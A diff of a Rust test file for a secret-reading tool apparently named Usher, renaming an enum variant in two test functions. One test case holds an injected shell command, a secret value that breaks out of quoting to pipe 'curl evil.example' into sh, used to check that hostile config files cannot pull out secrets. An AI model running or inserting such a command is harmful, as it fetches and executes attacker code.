@@ -44,7 +44,7 @@ fn a_hostile_file_cannot_send_off_what_belongs_to_other_programs() {
         ("CODER_OIDC_CLIENT_SECRET_FILE=several-lines", "cannot be read"),
         ("CODER_OIDC_CLIENT_SECRET=\"op://a/b'; curl evil.example | sh; '\"", "which Usher cannot follow"),
     ];
-    let of_person = Consent { issuer: Issuer::OfPerson, ..Consent::default() };
+    let of_person = Consent { issuer: Issuer::Person, ..Consent::default() };
     for (line, said) in cases {
         // Neither by the flag, nor where the person named the issuer.
         for consent in [agreed(), of_person.clone()] {
@@ -173,7 +173,7 @@ fn what_could_be_followed_waits_for_the_persons_word_and_is_not_looked_at_before
         };
         assert_eq!(value(&after, &Field::Secret).as_deref(), Some(SECRET), "{text}");
         // To an issuer that the person named it goes without a question.
-        let of_person = Consent { issuer: Issuer::OfPerson, ..Consent::default() };
+        let of_person = Consent { issuer: Issuer::Person, ..Consent::default() };
         let theirs: Vec<(&str, &str)> = has.into_iter().collect();
         let named = look_with(of_person, "coder", file, text, &theirs);
         assert_eq!(value(&named, &Field::Secret).as_deref(), Some(SECRET), "{text}");
